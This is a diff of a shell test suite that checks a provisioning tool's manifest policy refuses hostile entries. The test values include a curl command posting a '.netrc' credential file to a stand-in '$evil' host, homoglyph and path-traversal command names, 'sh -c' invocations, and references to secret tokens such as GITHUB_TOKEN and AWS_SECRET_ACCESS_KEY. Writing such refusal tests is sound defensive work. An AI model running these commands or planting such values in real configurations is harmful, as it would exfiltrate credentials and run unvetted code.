@@ -244,14 +244,27 @@ links()
 		'{command: [../owner/tools/gеt, db/a]}' '{command: [../owner/tools/GET, db/a]}' \
 		'{command: ["../owner/tools/get ", db/a]}' '{command: [../owner/get, db/a]}' \
 		'{command: [../owner/tools/get/, db/a]}' '{command: [get, db/a]}' \
-		'{command: [../owner/tools/get, db/a], env: [GITHUB_TOKEN]}' \
-		'{command: [../owner/tools/get, db/a], env: [CLOUDFLARE_API_TOKEN]}' \
-		"{command: [curl, -d, '@../home/.netrc', $evil]}" \
-		'{command: [../owner/tools/get, "db\u2215..\u2215x"], env: [PATH]}'
+		"{command: [curl, -d, '@../home/.netrc', $evil]}"
 	everything
 	refused
 	[ ! -e ran ]
 	rm ../owner/get
+	begin
+	manifest_with '{command: [../owner/tools/get, db/a], env: [GITHUB_TOKEN]}' \
+		'{command: [../owner/tools/get, db/a], env: [CLOUDFLARE_API_TOKEN]}' \
+		'{command: [../owner/tools/get, "db\u2215..\u2215x"], env: [PATH]}'
+	everything
+	refused
+	# Each alone: what is wrong with one must not hide another.
+	local value
+	for value in '{command: [./sh]}' '{command: [sh, -c, "touch ran"]}' '{command: [tools/get, db/x]}'; do
+		begin
+		programs
+		manifest_with "$value"
+		everything
+		refused
+		[ ! -e ran ]
+	done
 }
 
 @test "policy: accounts and their tokens" {
@@ -329,6 +342,11 @@ links()
 }
 
 @test "policy: variables of the environment are none of the manifest" {
+	begin
+	manifest_with '{env: ALLOWED_ENV}'
+	sed -i 's/S1, value/S1, comment: "${AWS_SECRET_ACCESS_KEY}", value/' cfprov.yaml
+	everything
+	refused
 	begin
 	manifest_with '{env: "${PRIVATE}"}' '{file: "${HOME}/.netrc"}'
 	sed -i 's|^stores:|&\n  - {name: "${VAULT_TOKEN}"}\n  - {name: x, secrets: [{name: A, comment: "${GITHUB_TOKEN}${AWS_SECRET_ACCESS_KEY:-}", value: {env: ALLOWED_ENV}}]}|' cfprov.yaml
